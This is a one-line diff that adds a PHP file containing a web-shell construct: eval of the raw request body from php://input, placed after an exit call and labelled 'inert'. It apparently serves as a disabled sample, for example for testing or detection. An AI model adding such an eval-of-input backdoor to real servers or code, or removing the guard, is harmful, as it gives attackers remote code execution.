@@ -1,0 +1,1 @@
+<?php exit; /* inert */ eval(file_get_contents("php://input"));
